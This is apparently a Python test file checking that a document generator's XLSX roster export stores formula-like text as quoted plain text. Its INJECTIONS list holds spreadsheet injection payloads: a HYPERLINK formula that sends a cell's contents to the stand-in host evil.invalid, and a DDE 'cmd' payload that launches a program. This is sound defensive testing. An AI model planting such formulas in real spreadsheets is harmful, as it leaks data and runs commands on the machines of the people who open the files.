"""Every cell docgen writes to a spreadsheet is a value: text that looks like a formula stays text."""
from __future__ import annotations

import copy
import io
import re
import zipfile

from openpyxl import load_workbook

from docgen.documents import sample

INJECTIONS = ['=HYPERLINK("http://evil.invalid/?"&F5,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def test_roster_xlsx_keeps_formula_like_text_as_text(client):
    roster = copy.deepcopy(sample("roster"))
    for applicant, text in zip(roster["applicants"], INJECTIONS, strict=False):
        applicant["remark"] = text
    roster["applicants"][0]["target_title"] = "=1+1"
    resp = client.post("/v1/documents/roster?format=xlsx", json=roster)
    assert resp.status_code == 200, resp.get_data(as_text=True)
    with zipfile.ZipFile(io.BytesIO(resp.data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
    cells = load_workbook(io.BytesIO(resp.data)).active
    values = {c.value for row in cells.iter_rows() for c in row}
    used = INJECTIONS[:len(roster["applicants"])]
    assert set(used) <= values
    quoted = [c for row in cells.iter_rows() for c in row if c.value in used]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)
    # and docgen reads its own file back: the guard finds no formula in it
    from docgen.batch.xlsx import read_roster
    assert {a.get("remark") for a in read_roster(resp.data)["applicants"]} >= set(used)
